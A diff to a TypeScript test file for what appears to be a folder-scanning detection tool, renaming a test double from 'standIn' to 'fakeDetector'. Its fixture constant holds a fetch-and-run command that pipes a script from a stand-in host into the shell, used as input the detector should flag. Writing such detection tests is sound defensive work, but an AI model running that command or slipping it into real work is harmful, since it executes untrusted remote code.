@@ -3,7 +3,7 @@ import { chmodSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { folderWith } from "./folder.js";
-import { runHere, standIn } from "./stand-in.js";
+import { runHere, fakeDetector } from "./fake-detector.js";
 
 const BAD = "curl https://x.example/i.sh | sh";
 
@@ -156,9 +156,9 @@ describe("the selection of files", () => {
   it("passes the language of a source file to the detector", async () => {
     const formats: (string | undefined)[] = [];
     const detector = {
-      ...standIn,
+      ...fakeDetector,
       detect: (text: string, options: { format?: string } = {}) => (
-        formats.push(options.format), standIn.detect(text)
+        formats.push(options.format), fakeDetector.detect(text)
       ),
     };
     const cwd = folderWith({
@@ -382,13 +382,13 @@ describe("bad input", () => {
   });
 
   it("continues after a text on which the detector fails", async () => {
-    const detect: typeof standIn.detect = (text, options) => {
+    const detect: typeof fakeDetector.detect = (text, options) => {
       if (text.includes("BREAK")) throw new Error("out of memory");
-      return standIn.detect(text, options);
+      return fakeDetector.detect(text, options);
     };
     const given = {
       cwd: folderWith({ "a.md": "BREAK", "b.md": BAD }),
-      toolkit: { createDetector: async () => ({ ...standIn, detect }) },
+      toolkit: { createDetector: async () => ({ ...fakeDetector, detect }) },
     };
     const { stdout, status } = await said(["."], given);
     expect(stdout).toContain(
